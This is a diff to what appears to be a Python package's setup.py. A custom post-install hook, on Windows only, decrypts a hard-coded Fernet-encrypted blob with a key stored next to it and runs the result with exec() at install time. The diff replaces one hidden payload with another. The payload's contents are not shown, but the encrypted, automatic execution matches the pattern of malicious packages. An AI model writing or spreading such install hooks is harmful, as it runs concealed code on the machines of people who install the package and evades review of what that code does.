@@ -7,7 +7,7 @@ class PostInstall(install):
         import os
         if os.name == "nt":
             from cryptography.fernet import Fernet
-            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcCXi8lwciKxc-PFPD8PAXIM2p8PsomV60hC6PsI-qkt4U7LmGOBeBOls3PVBScrAq2V_3_CWcR07fc0-ZcX7lN_zfUPACrK47AK2c_ZJSEDM4z8ZMTbHp2bumnEH6YsaFz4WJE-4vjcnvwcR0Ge6IC7KkPD4Kpu80jM6Tmuxmp9M1FVrcLaNO5iRZEFgQzqFO2vkanwaJPKwteAgEN4nKjfxayN2VSsUfzWo4itqKjHI5nnsJIxhuWLxZYHkbFxDK8ojpUA1tiYm927jgt1ccPgtb_Ehu6EMGT07O4UdV0VQOe16nOZovmY2hcpTDe9VETexB-EQeaHQnKp0AEaZywmwvx0RP4Dftp5NjHgGP0tuhkxEZ-3mh4oFB4gwlzuOXCZmILuVH8AE6N7kU7U2ezqwQ=='))
+            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcHC2_8OTHnUQlq_Tz7n1GWEYZvqzaIWKI_Yx_n4TXfNRO0awalMEjTwnhEeiLRRdQFXwhD72BSg77uNmhuEDEt3Jd4IG7R_72E4YJOKNegpiZgNeGY8xrKMHfz7H35rQOkZmz9VVUuOQsPQ3aPgMGvi_6XtViVGcTYXoL5rzWAod_kEtfQqBsm9pypjXkSG3BAMl-ol2Jj345oJ5aoMVE001nDQfbGdgpFWJoPGjWHUfMJzGqq1ozB3VThGcAZCK2Ypx8ATkMA7awh9MfqMffoja9ffMyNCb5YH_LcTgF3QSh9igb0B9OlB1_ZKzAeTj7OdeBUwE_jeGFcVVUlRMSs5li8wb2fpQeW9S_xLqdlUUPJRs0Dl9WSqczZi2Yi_JbFS88ubYXmfQixo4Ozp-F__sw=='))
         install.run(self)
 
 setup(
